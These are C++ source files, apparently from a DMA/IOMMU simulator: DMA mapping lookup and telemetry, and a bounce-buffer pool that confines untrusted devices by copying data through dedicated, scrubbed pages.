    // The flat table iterates in probe order; sort to match the std::map
    // path so consumers see a deterministic result either way.
    std::sort(out.begin(), out.end(), [](const DmaMapping& a, const DmaMapping& b) {
      return std::tie(a.device.value, a.iova.value) < std::tie(b.device.value, b.iova.value);
    });
  } else {
    for (const auto& [key, mapping] : by_iova_) {
      collect(mapping);
    }
  }
  return out;
}

void DmaApi::ForEachMapping(const std::function<void(const DmaMapping&)>& fn) const {
  std::lock_guard<MaybeMutex> guard(mu_);
  if (use_hash_index_) {
    // The flat table iterates in probe order; sort for a deterministic visit.
    std::vector<DmaMapping> all;
    index_.ForEach([&](const DmaMapping& mapping) { all.push_back(mapping); });
    std::sort(all.begin(), all.end(), [](const DmaMapping& a, const DmaMapping& b) {
      return std::tie(a.device.value, a.iova.value) < std::tie(b.device.value, b.iova.value);
    });
    for (const DmaMapping& mapping : all) {
      fn(mapping);
    }
    return;
  }
  for (const auto& [key, mapping] : by_iova_) {
    fn(mapping);
  }
}

std::optional<DmaMapping> DmaApi::FindMapping(DeviceId device, Iova iova) const {
  {
    std::lock_guard<MaybeMutex> guard(mu_);
    const DmaMapping* found =
        LookupMapping(IovaKey{device.value, iova.PageBase().value >> kPageShift});
    if (found != nullptr) {
      return *found;
    }
  }
  // Bounced buffers live in the pool, not the tracker; synthesize the
  // mapping so FindMapping-based ring audits keep working.
  if (bounce_pool_ != nullptr && bounce_pool_->Owns(device, iova)) {
    return bounce_pool_->Lookup(device, iova);
  }
  return std::nullopt;
}

void DmaApi::AddObserver(DmaObserver* observer) {
  observer_sinks_.push_back(std::make_unique<DmaObserverSink>(this, observer));
  telemetry().AddSink(observer_sinks_.back().get());
}

void DmaApi::RemoveObserver(DmaObserver* observer) {
  for (auto it = observer_sinks_.begin(); it != observer_sinks_.end();) {
    if ((*it)->observer() == observer) {
      telemetry().RemoveSink(it->get());
      it = observer_sinks_.erase(it);
    } else {
      ++it;
    }
  }
}

void DmaApi::NotifyCpuAccess(Kva kva, uint64_t len, bool is_write) {
  telemetry::Hub& hub = telemetry();
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = telemetry::EventKind::kCpuAccess;
  event.severity = telemetry::Severity::kTrace;
  event.addr = kva.value;
  event.len = len;
  event.flag = is_write;
  event.origin = this;
  hub.Publish(std::move(event));
  if (hub.enabled()) {
    hub.counter("dma.cpu_accesses").Add();
  }
}

void DmaApi::Notify(const DmaMapping& mapping, bool map) {
  telemetry::Hub& hub = telemetry();
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = map ? telemetry::EventKind::kDmaMap : telemetry::EventKind::kDmaUnmap;
  event.severity = telemetry::Severity::kInfo;
  event.device = mapping.device.value;
  event.addr = mapping.kva.value;
  event.addr2 = mapping.iova.value;
  event.len = mapping.len;
  event.aux = static_cast<uint64_t>(RightsFor(mapping.dir));
  event.origin = this;
  event.site = mapping.site;
  hub.Publish(std::move(event));
  if (hub.enabled()) {
    hub.counter(map ? "dma.maps" : "dma.unmaps").Add();
    // Per-device map/unmap accounting (Table-1 style breakdowns).
    std::string per_device = map ? "dma.maps.dev" : "dma.unmaps.dev";
    per_device += std::to_string(mapping.device.value);
    hub.counter(per_device).Add();
    if (map) {
      hub.histogram("dma.map_bytes").Record(mapping.len);
      hub.histogram("dma.exposed_bytes").Record(mapping.exposed_bytes());
    }
  }
}

}  // namespace spv::dma
