#include "dma/bounce_pool.h"

#include <algorithm>
#include <span>
#include <vector>

#include "base/align.h"
#include "dma/bounce.h"  // kCopyCyclesPerCacheLine

namespace spv::dma {

BouncePool::BouncePool(iommu::Iommu& iommu, const mem::KernelLayout& layout,
                       mem::PhysicalMemory& pm, mem::PageAllocator& page_alloc,
                       SimClock& clock, telemetry::Hub* hub)
    : iommu_(iommu), layout_(layout), pm_(pm), page_alloc_(page_alloc), clock_(clock),
      hub_(hub) {}

Status BouncePool::AttachDevice(DeviceId device, uint64_t pages) {
  if (pages == 0) {
    return InvalidArgument("bounce pool needs at least one page");
  }
  if (pools_.count(device.value) != 0) {
    return FailedPrecondition("device already has a bounce pool");
  }
  std::vector<Pfn> pfns;
  pfns.reserve(pages);
  for (uint64_t i = 0; i < pages; ++i) {
    Result<Pfn> pfn = page_alloc_.AllocPage(mem::PageOwner::kDriver);
    if (!pfn.ok()) {
      for (Pfn got : pfns) {
        (void)page_alloc_.FreePages(got);
      }
      return pfn.status();
    }
    pfns.push_back(*pfn);
  }
  // One contiguous IOVA block, mapped once, never unmapped on the I/O path:
  // no invalidation traffic, no deferred window, and multi-page buffers can
  // ride runs of consecutive slots.
  Result<Iova> base = iommu_.MapRange(device, pfns, iommu::AccessRights::kBidirectional);
  if (!base.ok()) {
    for (Pfn got : pfns) {
      (void)page_alloc_.FreePages(got);
    }
    return base.status();
  }
  Pool& pool = pools_[device.value];
  pool.base = *base;
  pool.slots.reserve(pages);
  for (Pfn pfn : pfns) {
    pool.slots.push_back(Slot{pfn, false});
  }
  return OkStatus();
}

Status BouncePool::DetachDevice(DeviceId device) {
  auto it = pools_.find(device.value);
  if (it == pools_.end()) {
    return NotFound("device has no bounce pool");
  }
  Pool& pool = it->second;
  if (!pool.active.empty()) {
    return FailedPrecondition("bounce pool detach with bounces in flight");
  }
  // A fenced/revoked device may already have lost the block's PTEs
  // (RevokeDeviceMappings does not know about the pool); tolerate that and
  // still reclaim the pages.
  (void)iommu_.UnmapRange(device, pool.base, pool.slots.size());
  for (const Slot& slot : pool.slots) {
    SPV_RETURN_IF_ERROR(page_alloc_.FreePages(slot.pfn));
  }
  pools_.erase(it);
  return OkStatus();
}

bool BouncePool::HasPool(DeviceId device) const {
  return pools_.count(device.value) != 0;
}

Kva BouncePool::SlotKva(const Pool& pool, size_t slot) const {
  return layout_.PhysToDirectMapKva(PhysAddr::FromPfn(pool.slots[slot].pfn));
}

Status BouncePool::Copy(Kva dst, Kva src, uint64_t len) {
  Result<PhysAddr> src_phys = layout_.DirectMapKvaToPhys(src);
  Result<PhysAddr> dst_phys = layout_.DirectMapKvaToPhys(dst);
  if (!src_phys.ok() || !dst_phys.ok()) {
    return InvalidArgument("bounce copy outside the direct map");
  }
  std::vector<uint8_t> buf(len);
  SPV_RETURN_IF_ERROR(pm_.Read(*src_phys, std::span<uint8_t>(buf)));
  SPV_RETURN_IF_ERROR(pm_.Write(*dst_phys, std::span<const uint8_t>(buf)));
  ++copies_;
  const uint64_t cycles = kCopyCyclesPerCacheLine * (AlignUp(len, 64) / 64);
  copy_cycles_ += cycles;
  clock_.Advance(cycles);
  return OkStatus();
}

template <typename Fn>
Status BouncePool::ForEachChunk(const Active& active, Fn&& fn) const {
  const uint64_t first_offset = active.orig_kva.page_offset();
  uint64_t done = 0;
  for (size_t i = 0; i < active.num_slots && done < active.len; ++i) {
    const uint64_t slot_offset = (i == 0) ? first_offset : 0;
    const uint64_t chunk = std::min(active.len - done, kPageSize - slot_offset);
    SPV_RETURN_IF_ERROR(fn(active.first_slot + i, slot_offset, done, chunk));
    done += chunk;
  }
  return OkStatus();
}

template <typename Fn>
Status BouncePool::ForEachChunkRange(const Active& active, uint64_t from,
                                     uint64_t span, Fn&& fn) const {
  // Buffer offset `off` lives in slot (first_offset + off) / page at page
  // offset (first_offset + off) % page, where first_offset is the buffer's
  // sub-page start inside its first slot.
  const uint64_t first_offset = active.orig_kva.page_offset();
  uint64_t off = from;
  const uint64_t end = from + span;
  while (off < end) {
    const uint64_t abs = first_offset + off;
    const size_t slot = active.first_slot + (abs >> kPageShift);
    const uint64_t slot_offset = abs & (kPageSize - 1);
    const uint64_t chunk = std::min(end - off, kPageSize - slot_offset);
    SPV_RETURN_IF_ERROR(fn(slot, slot_offset, off, chunk));
    off += chunk;
  }
  return OkStatus();
}

Status BouncePool::CopyIn(Pool& pool, const Active& active) {
  return ForEachChunk(active, [&](size_t slot, uint64_t slot_off, uint64_t buf_off,
                                  uint64_t chunk) {
    return Copy(SlotKva(pool, slot) + slot_off, active.orig_kva + buf_off, chunk);
  });
}

Status BouncePool::CopyOut(Pool& pool, const Active& active) {
  // Only the buffer's own bytes travel back: a device write anywhere else in
  // the dedicated pages is simply never copied (type (a)/(d) confinement).
  return ForEachChunk(active, [&](size_t slot, uint64_t slot_off, uint64_t buf_off,
                                  uint64_t chunk) {
    return Copy(active.orig_kva + buf_off, SlotKva(pool, slot) + slot_off, chunk);
  });
}

Status BouncePool::CopyInRange(Pool& pool, const Active& active, uint64_t from,
                               uint64_t span) {
  return ForEachChunkRange(active, from, span,
                           [&](size_t slot, uint64_t slot_off, uint64_t buf_off,
                               uint64_t chunk) {
    return Copy(SlotKva(pool, slot) + slot_off, active.orig_kva + buf_off, chunk);
  });
}

Status BouncePool::CopyOutRange(Pool& pool, const Active& active, uint64_t from,
                                uint64_t span) {
  return ForEachChunkRange(active, from, span,
                           [&](size_t slot, uint64_t slot_off, uint64_t buf_off,
                               uint64_t chunk) {
    return Copy(active.orig_kva + buf_off, SlotKva(pool, slot) + slot_off, chunk);
  });
}

Status BouncePool::Scrub(Pool& pool, const Active& active) {
  // Whole pages, not just the buffer's bytes: nothing but this I/O may ever
  // be visible through the static mapping.
  for (size_t i = 0; i < active.num_slots; ++i) {
    SPV_RETURN_IF_ERROR(
        pm_.Fill(PhysAddr::FromPfn(pool.slots[active.first_slot + i].pfn), kPageSize, 0));
  }
  return OkStatus();
}

Status BouncePool::ScrubRange(Pool& pool, const Active& active, uint64_t from,
                              uint64_t span) {
  // Partial re-arm: other byte ranges of the same persistent mapping may be
  // live (other SQEs in a ring, other slots of a shared run), so only the
  // handed-over bytes are cleared.
  return ForEachChunkRange(active, from, span,
                           [&](size_t slot, uint64_t slot_off, uint64_t /*buf_off*/,
                               uint64_t chunk) {
    return pm_.Fill(PhysAddr::FromPfn(pool.slots[slot].pfn, slot_off), chunk, 0);
  });
}

void BouncePool::PublishEvent(telemetry::EventKind kind, DeviceId device,
                              const Active& active, Iova iova, uint64_t len,
                              uint64_t cycles_spent) {
  if (hub_ == nullptr || !hub_->active()) {
    return;
  }
  telemetry::Event event;
  event.kind = kind;
  event.severity = telemetry::Severity::kTrace;
  event.device = device.value;
  event.addr = active.orig_kva.value;
  event.addr2 = iova.value;
  event.len = len;
  event.aux = cycles_spent;
  event.origin = this;
  event.site = active.site;
  hub_->Publish(std::move(event));
  if (hub_->enabled()) {
    const char* counter = "bounce.maps";
    switch (kind) {
      case telemetry::EventKind::kBounceUnmap:
        counter = "bounce.unmaps";
        break;
      case telemetry::EventKind::kBounceSyncCpu:
        counter = "bounce.sync_for_cpu";
        break;
      case telemetry::EventKind::kBounceSyncDevice:
        counter = "bounce.sync_for_device";
        break;
      default:
        break;
    }
    hub_->counter(counter).Add();
  }
}

Result<Iova> BouncePool::Map(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                             std::string_view site) {
  return MapInternal(device, kva, len, dir, site, /*persistent=*/false);
}

Result<Iova> BouncePool::MapPersistent(DeviceId device, Kva kva, uint64_t len,
                                       DmaDirection dir, std::string_view site) {
  return MapInternal(device, kva, len, dir, site, /*persistent=*/true);
}

Result<Iova> BouncePool::MapInternal(DeviceId device, Kva kva, uint64_t len,
                                     DmaDirection dir, std::string_view site,
                                     bool persistent) {
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return FailedPrecondition("device has no bounce pool");
  }
  if (len == 0) {
    return InvalidArgument("bounce map with zero length");
  }
  if (!layout_.DirectMapKvaToPhys(kva).ok()) {
    return InvalidArgument("bounce map of non-direct-map KVA");
  }
  Pool& pool = pool_it->second;
  const uint64_t need = (kva.page_offset() + len + kPageSize - 1) >> kPageShift;
  if (need > pool.slots.size()) {
    return ResourceExhausted("buffer larger than the bounce pool");
  }
  // First-fit run of consecutive free slots (the block is one contiguous
  // IOVA range, so a run is a contiguous device-visible buffer).
  size_t first = 0;
  uint64_t run = 0;
  for (size_t i = 0; i < pool.slots.size(); ++i) {
    if (pool.slots[i].in_use) {
      run = 0;
      continue;
    }
    if (run == 0) {
      first = i;
    }
    if (++run == need) {
      break;
    }
  }
  if (run < need) {
    return ResourceExhausted("bounce pool exhausted");
  }
  Active active{first, need, kva, len, dir, std::string(site), persistent};
  SPV_RETURN_IF_ERROR(Scrub(pool, active));
  if (dir == DmaDirection::kToDevice || dir == DmaDirection::kBidirectional) {
    SPV_RETURN_IF_ERROR(CopyIn(pool, active));
  }
  for (size_t i = 0; i < need; ++i) {
    pool.slots[first + i].in_use = true;
  }
  const Iova slot_base = pool.base + first * kPageSize;
  const Iova iova = slot_base + kva.page_offset();
  const uint64_t spent = kCopyCyclesPerCacheLine * (AlignUp(len, 64) / 64);
  pool.active[slot_base.value] = active;
  PublishEvent(telemetry::EventKind::kBounceMap, device, active, iova, len, spent);
  return iova;
}

Status BouncePool::Unmap(DeviceId device, Iova iova, uint64_t len, DmaDirection dir) {
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return FailedPrecondition("device has no bounce pool");
  }
  Pool& pool = pool_it->second;
  auto it = pool.active.find(iova.PageBase().value);
  if (it == pool.active.end()) {
    return FailedPrecondition("bounce unmap of unknown IOVA");
  }
  Active active = it->second;
  if (active.len != len || active.dir != dir) {
    return InvalidArgument("bounce unmap with mismatched length or direction");
  }
  const uint64_t before = copy_cycles_;
  if (dir == DmaDirection::kFromDevice || dir == DmaDirection::kBidirectional) {
    SPV_RETURN_IF_ERROR(CopyOut(pool, active));
  }
  // No unmap, no invalidation: the static block stays; just recycle slots.
  for (size_t i = 0; i < active.num_slots; ++i) {
    pool.slots[active.first_slot + i].in_use = false;
  }
  pool.active.erase(it);
  PublishEvent(telemetry::EventKind::kBounceUnmap, device, active, iova, len,
               copy_cycles_ - before);
  return OkStatus();
}

std::map<uint64_t, BouncePool::Active>::iterator BouncePool::FindContaining(
    Pool& pool, Iova iova, uint64_t* rel_out) {
  // The active table is keyed by the run's first slot IOVA; the sync target
  // may sit pages into a multi-slot run, so find the last run at or below
  // `iova` and range-check against the buffer's device-visible bytes.
  auto it = pool.active.upper_bound(iova.value);
  if (it == pool.active.begin()) {
    return pool.active.end();
  }
  --it;
  const uint64_t mapped_start = it->first + it->second.orig_kva.page_offset();
  if (iova.value < mapped_start || iova.value >= mapped_start + it->second.len) {
    return pool.active.end();
  }
  *rel_out = iova.value - mapped_start;
  return it;
}

Status BouncePool::SyncForCpu(DeviceId device, Iova iova, uint64_t len, DmaDirection dir) {
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return FailedPrecondition("device has no bounce pool");
  }
  Pool& pool = pool_it->second;
  uint64_t rel = 0;
  auto it = FindContaining(pool, iova, &rel);
  if (it == pool.active.end()) {
    return FailedPrecondition("bounce sync_for_cpu of unknown IOVA");
  }
  Active& active = it->second;
  if (active.dir != dir) {
    return InvalidArgument("bounce sync_for_cpu with mismatched direction");
  }
  if (len == 0 || rel + len > active.len) {
    return InvalidArgument("bounce sync_for_cpu beyond the mapped buffer");
  }
  const uint64_t before = copy_cycles_;
  if (dir == DmaDirection::kFromDevice || dir == DmaDirection::kBidirectional) {
    SPV_RETURN_IF_ERROR(CopyOutRange(pool, active, rel, len));
  }
  ++pool.syncs_for_cpu;
  ++syncs_for_cpu_;
  PublishEvent(telemetry::EventKind::kBounceSyncCpu, device, active, iova, len,
               copy_cycles_ - before);
  return OkStatus();
}

Status BouncePool::SyncForDevice(DeviceId device, Iova iova, uint64_t len,
                                 DmaDirection dir) {
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return FailedPrecondition("device has no bounce pool");
  }
  Pool& pool = pool_it->second;
  uint64_t rel = 0;
  auto it = FindContaining(pool, iova, &rel);
  if (it == pool.active.end()) {
    return FailedPrecondition("bounce sync_for_device of unknown IOVA");
  }
  Active& active = it->second;
  if (active.dir != dir) {
    return InvalidArgument("bounce sync_for_device with mismatched direction");
  }
  if (len == 0 || rel + len > active.len) {
    return InvalidArgument("bounce sync_for_device beyond the mapped buffer");
  }
  const uint64_t before = copy_cycles_;
  // Ownership returns to the device: re-arm so the previous I/O's bytes are
  // not re-exposed. A full-mapping sync scrubs the whole pages (the map-time
  // guarantee); a partial sync touches only the handed-over range, because
  // the rest of the mapping may still be in flight.
  if (rel == 0 && len == active.len) {
    SPV_RETURN_IF_ERROR(Scrub(pool, active));
  } else {
    SPV_RETURN_IF_ERROR(ScrubRange(pool, active, rel, len));
  }
  if (dir == DmaDirection::kToDevice || dir == DmaDirection::kBidirectional) {
    SPV_RETURN_IF_ERROR(CopyInRange(pool, active, rel, len));
  }
  ++pool.syncs_for_device;
  ++syncs_for_device_;
  PublishEvent(telemetry::EventKind::kBounceSyncDevice, device, active, iova, len,
               copy_cycles_ - before);
  return OkStatus();
}

bool BouncePool::Owns(DeviceId device, Iova iova) const {
  auto it = pools_.find(device.value);
  if (it == pools_.end()) {
    return false;
  }
  const Pool& pool = it->second;
  return iova.value >= pool.base.value &&
         iova.value < pool.base.value + pool.slots.size() * kPageSize;
}

std::optional<DmaMapping> BouncePool::Lookup(DeviceId device, Iova iova) const {
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return std::nullopt;
  }
  const Pool& pool = pool_it->second;
  // Containing-run lookup, so audits may ask about any page of a multi-slot
  // bounce, not just the first.
  auto it = pool.active.upper_bound(iova.value);
  if (it == pool.active.begin()) {
    return std::nullopt;
  }
  --it;
  const Active& active = it->second;
  if (iova.value >= it->first + active.num_slots * kPageSize) {
    return std::nullopt;
  }
  const Iova mapped = Iova{it->first} + active.orig_kva.page_offset();
  return DmaMapping{device, mapped, active.orig_kva, active.len, active.dir, active.site};
}

uint64_t BouncePool::ReleaseAll(DeviceId device) {
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return 0;
  }
  Pool& pool = pool_it->second;
  const uint64_t released = pool.active.size();
  for (Slot& slot : pool.slots) {
    slot.in_use = false;
  }
  pool.active.clear();
  return released;
}

uint64_t BouncePool::total_active() const {
  uint64_t total = 0;
  for (const auto& [id, pool] : pools_) {
    total += pool.active.size();
  }
  return total;
}

uint64_t BouncePool::pool_pages(DeviceId device) const {
  auto it = pools_.find(device.value);
  return it == pools_.end() ? 0 : it->second.slots.size();
}

uint64_t BouncePool::active_bounces(DeviceId device) const {
  auto it = pools_.find(device.value);
  return it == pools_.end() ? 0 : it->second.active.size();
}

uint64_t BouncePool::persistent_bounces(DeviceId device) const {
  auto it = pools_.find(device.value);
  if (it == pools_.end()) {
    return 0;
  }
  uint64_t count = 0;
  for (const auto& [iova, active] : it->second.active) {
    count += active.persistent ? 1 : 0;
  }
  return count;
}

uint64_t BouncePool::syncs_for_cpu(DeviceId device) const {
  auto it = pools_.find(device.value);
  return it == pools_.end() ? 0 : it->second.syncs_for_cpu;
}

uint64_t BouncePool::syncs_for_device(DeviceId device) const {
  auto it = pools_.find(device.value);
  return it == pools_.end() ? 0 : it->second.syncs_for_device;
}

Status BouncePool::Audit() const {
  for (const auto& [id, pool] : pools_) {
    const DeviceId device{id};
    std::vector<bool> claimed(pool.slots.size(), false);
    for (const auto& [slot_iova, active] : pool.active) {
      const uint64_t offset_pages = (Iova{slot_iova} - pool.base) >> kPageShift;
      if (offset_pages != active.first_slot ||
          active.first_slot + active.num_slots > pool.slots.size()) {
        return Internal("bounce audit: active run outside its pool");
      }
      for (uint64_t i = 0; i < active.num_slots; ++i) {
        if (claimed[active.first_slot + i]) {
          return Internal("bounce audit: overlapping active runs");
        }
        claimed[active.first_slot + i] = true;
        if (!pool.slots[active.first_slot + i].in_use) {
          return Internal("bounce audit: active run over a free slot");
        }
      }
    }
    for (size_t i = 0; i < pool.slots.size(); ++i) {
      if (pool.slots[i].in_use != claimed[i]) {
        return Internal("bounce audit: slot in-use bit without an active run");
      }
      // The mappings are supposed to be static: a detached/revoked device is
      // exempt (its PTEs are legitimately gone), anything else must still
      // translate to exactly this slot's page.
      const std::optional<iommu::PteEntry> pte =
          iommu_.Peek(device, pool.base + i * kPageSize);
      if (pte.has_value() && pte->pfn != pool.slots[i].pfn) {
        return Internal("bounce audit: static mapping points at a foreign page");
      }
    }
  }
  return OkStatus();
}

}  // namespace spv::dma
