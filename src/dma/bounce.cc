#include "dma/bounce.h"

#include <vector>

#include "base/align.h"

namespace spv::dma {

BounceDma::BounceDma(iommu::Iommu& iommu, const mem::KernelLayout& layout,
                     mem::PhysicalMemory& pm, mem::PageAllocator& page_alloc, SimClock& clock)
    : DmaApi(iommu, layout), pm_(pm), page_alloc_(page_alloc), clock_(clock) {}

Status BounceDma::AttachDevice(DeviceId device, uint64_t pages) {
  DevicePool& pool = pools_[device.value];
  for (uint64_t i = 0; i < pages; ++i) {
    Result<Pfn> pfn = page_alloc_.AllocPage(mem::PageOwner::kDriver);
    if (!pfn.ok()) {
      return pfn.status();
    }
    // Static BIDIRECTIONAL mapping, installed once at attach, never unmapped:
    // no invalidation traffic, no deferred window.
    Result<Iova> iova = iommu().MapPage(device, *pfn, iommu::AccessRights::kBidirectional);
    if (!iova.ok()) {
      return iova.status();
    }
    pool.pages.push_back(BouncePage{*pfn, *iova, false});
  }
  return OkStatus();
}

Status BounceDma::Copy(Kva dst, Kva src, uint64_t len) {
  Result<PhysAddr> src_phys = layout().DirectMapKvaToPhys(src);
  Result<PhysAddr> dst_phys = layout().DirectMapKvaToPhys(dst);
  if (!src_phys.ok() || !dst_phys.ok()) {
    return InvalidArgument("bounce copy outside the direct map");
  }
  std::vector<uint8_t> buf(len);
  SPV_RETURN_IF_ERROR(pm_.Read(*src_phys, std::span<uint8_t>(buf)));
  SPV_RETURN_IF_ERROR(pm_.Write(*dst_phys, std::span<const uint8_t>(buf)));
  ++copies_;
  const uint64_t cycles = kCopyCyclesPerCacheLine * (AlignUp(len, 64) / 64);
  copy_cycles_ += cycles;
  clock_.Advance(cycles);
  return OkStatus();
}

Result<Iova> BounceDma::MapSingle(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                                  std::string_view site) {
  (void)site;
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return FailedPrecondition("device has no bounce pool");
  }
  if (len == 0 || len > kPageSize) {
    return InvalidArgument("bounce backend supports sub-page buffers");
  }
  DevicePool& pool = pool_it->second;
  for (size_t i = 0; i < pool.pages.size(); ++i) {
    BouncePage& page = pool.pages[i];
    if (page.in_use) {
      continue;
    }
    page.in_use = true;
    const Kva bounce_kva = layout().PhysToDirectMapKva(PhysAddr::FromPfn(page.pfn));
    // Nothing but this I/O's bytes may be visible: scrub, then copy in for
    // device-readable directions.
    SPV_RETURN_IF_ERROR(pm_.Fill(PhysAddr::FromPfn(page.pfn), kPageSize, 0));
    if (dir == DmaDirection::kToDevice || dir == DmaDirection::kBidirectional) {
      SPV_RETURN_IF_ERROR(Copy(bounce_kva, kva, len));
    }
    pool.active[page.iova.value] = ActiveBounce{i, kva, len, dir};
    return page.iova;
  }
  return ResourceExhausted("bounce pool exhausted");
}

Status BounceDma::UnmapSingle(DeviceId device, Iova iova, uint64_t len, DmaDirection dir) {
  auto pool_it = pools_.find(device.value);
  if (pool_it == pools_.end()) {
    return FailedPrecondition("device has no bounce pool");
  }
  DevicePool& pool = pool_it->second;
  auto it = pool.active.find(iova.PageBase().value);
  if (it == pool.active.end()) {
    return FailedPrecondition("bounce unmap of unknown IOVA");
  }
  const ActiveBounce active = it->second;
  if (active.len != len || active.dir != dir) {
    return InvalidArgument("bounce unmap with mismatched length or direction");
  }
  BouncePage& page = pool.pages[active.page_index];
  const Kva bounce_kva = layout().PhysToDirectMapKva(PhysAddr::FromPfn(page.pfn));
  // Copy device-written data back to the real buffer.
  if (dir == DmaDirection::kFromDevice || dir == DmaDirection::kBidirectional) {
    SPV_RETURN_IF_ERROR(Copy(active.orig_kva, bounce_kva, len));
  }
  // No unmap, no invalidation: just recycle the dedicated page.
  page.in_use = false;
  pool.active.erase(it);
  return OkStatus();
}

}  // namespace spv::dma
