// Policy-routed bounce-buffer pool (Markuze et al. [47], wired into the
// trust policy of spv::policy).
//
// BounceDma (dma/bounce.h) models the paper's §8 backend as a *wholesale*
// replacement for the DMA API. This pool is the composable form: DmaApi
// consults a DmaRouter per map and diverts only the flagged devices'
// transfers through dedicated pages, so trusted devices keep the zero-copy
// fast path while untrusted ones are structurally confined:
//
//   * sub-page co-location (paper types (a)/(d)) is eliminated — the device
//     only ever sees dedicated whole pages scrubbed before each I/O, and
//     unmap copies back exactly the buffer's bytes, so device writes outside
//     [offset, offset+len) never reach kernel memory;
//   * deferred-invalidation windows are eliminated on this path — the pool's
//     mappings are static (installed at attach, BIDIRECTIONAL), so the I/O
//     path performs no unmap and queues no invalidation;
//   * cost — one copy per direction in simulated cycles, the paper's
//     trade-off, which the trust policy charges only to untrusted devices.
//
// Multi-page buffers are supported by carving the pool's one contiguous
// IOVA block into runs of consecutive free slots; the returned IOVA
// preserves the caller's sub-page offset so driver arithmetic is unchanged.

#ifndef SPV_DMA_BOUNCE_POOL_H_
#define SPV_DMA_BOUNCE_POOL_H_

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "dma/dma_api.h"
#include "mem/page_allocator.h"
#include "mem/phys_memory.h"

namespace spv::dma {

// Per-map routing decision, answered by the trust policy (spv::policy
// implements this). Lives in the dma layer so DmaApi never links against
// the policy engine — the dependency points the other way.
class DmaRouter {
 public:
  virtual ~DmaRouter() = default;

  // True if `device` must not receive direct mappings: DmaApi::MapSingle
  // diverts the transfer through the BouncePool instead.
  virtual bool ShouldBounce(DeviceId device) const = 0;

  // The service mode queue-protocol drivers should run `device` under. The
  // default derives it from ShouldBounce (transient bounces, the PR 8
  // behaviour); the policy engine overrides this to hand untrusted devices
  // the sync-ring degraded mode instead of letting their rings starve.
  virtual ServiceMode ServiceModeFor(DeviceId device) const {
    return ShouldBounce(device) ? ServiceMode::kBounceTransient
                                : ServiceMode::kZeroCopy;
  }
};

class BouncePool {
 public:
  static constexpr uint64_t kDefaultPoolPages = 16;

  BouncePool(iommu::Iommu& iommu, const mem::KernelLayout& layout,
             mem::PhysicalMemory& pm, mem::PageAllocator& page_alloc, SimClock& clock,
             telemetry::Hub* hub = nullptr);

  BouncePool(const BouncePool&) = delete;
  BouncePool& operator=(const BouncePool&) = delete;

  // Builds `device`'s pool: `pages` dedicated pages mapped once as a single
  // contiguous BIDIRECTIONAL IOVA block, never unmapped on the I/O path.
  Status AttachDevice(DeviceId device, uint64_t pages = kDefaultPoolPages);

  // Hot-unplug: unmaps the static block and frees the pages. Fails if
  // bounces are still in flight (ReleaseAll first).
  Status DetachDevice(DeviceId device);

  bool HasPool(DeviceId device) const;

  // The bounce-path equivalents of the DmaApi verbs. Map scrubs the slots
  // and copies in for device-readable directions; Unmap copies device
  // writes back (exactly [offset, offset+len), nothing else) and recycles
  // the slots. The syncs model persistent-mapping drivers: SyncForCpu
  // copies out without releasing, SyncForDevice re-scrubs and re-arms.
  Result<Iova> Map(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                   std::string_view site = "bounce_map");
  Status Unmap(DeviceId device, Iova iova, uint64_t len, DmaDirection dir);

  // Persistent variant: same slot carving, but the run is flagged as a
  // long-lived ring/slot mapping the driver syncs instead of re-mapping.
  // Released with Unmap like any other bounce.
  Result<Iova> MapPersistent(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                             std::string_view site = "bounce_map_persistent");

  // Partial-range syncs: `iova` may point anywhere inside a live bounce
  // (not just its first page) and `len` covers just the bytes handed over —
  // a single SQE, one CQE, a packet's bytes. `dir` must match the mapping.
  // SyncForCpu copies device writes back for the range; SyncForDevice scrubs
  // the range (whole pages when the full mapping is re-armed) and copies
  // kernel bytes in for device-readable directions. Both publish telemetry
  // (kBounceSyncCpu/kBounceSyncDevice + bounce.sync_* counters).
  Status SyncForCpu(DeviceId device, Iova iova, uint64_t len, DmaDirection dir);
  Status SyncForDevice(DeviceId device, Iova iova, uint64_t len, DmaDirection dir);

  // True if `iova` falls inside `device`'s pool block — i.e. it was handed
  // out by Map, not by the zero-copy path. DmaApi checks this before its own
  // tracker so in-flight bounces survive a trust promotion.
  bool Owns(DeviceId device, Iova iova) const;

  // Synthesizes the DmaMapping a tracker lookup would have produced, so
  // FindMapping-based audits (NicDriver::AuditQueues) see bounced buffers.
  std::optional<DmaMapping> Lookup(DeviceId device, Iova iova) const;

  // Quarantine support: drops every in-flight bounce for `device` without
  // copy-out (the device is suspect; its writes are discarded). Returns the
  // number of bounces released. The static mappings stay — the IOMMU fence
  // already blocks the device, and RevokeDeviceMappings tears PTEs down.
  uint64_t ReleaseAll(DeviceId device);

  // Machine::CheckInvariants hook: slot in-use accounting must match the
  // active table, active runs must be disjoint and in range, and every pool
  // page must still translate (the mappings are supposed to be static).
  Status Audit() const;

  uint64_t copies() const { return copies_; }
  uint64_t copy_cycles() const { return copy_cycles_; }
  uint64_t total_active() const;
  uint64_t pool_pages(DeviceId device) const;
  uint64_t active_bounces(DeviceId device) const;
  uint64_t persistent_bounces(DeviceId device) const;
  uint64_t syncs_for_cpu(DeviceId device) const;
  uint64_t syncs_for_device(DeviceId device) const;
  uint64_t total_syncs_for_cpu() const { return syncs_for_cpu_; }
  uint64_t total_syncs_for_device() const { return syncs_for_device_; }

 private:
  struct Slot {
    Pfn pfn;
    bool in_use = false;
  };
  struct Active {
    size_t first_slot;
    uint64_t num_slots;
    Kva orig_kva;
    uint64_t len;
    DmaDirection dir;
    std::string site;
    bool persistent = false;
  };
  struct Pool {
    Iova base;  // slot 0's IOVA; slot i lives at base + i*kPageSize
    std::vector<Slot> slots;
    std::map<uint64_t, Active> active;  // first slot's IOVA value -> bounce
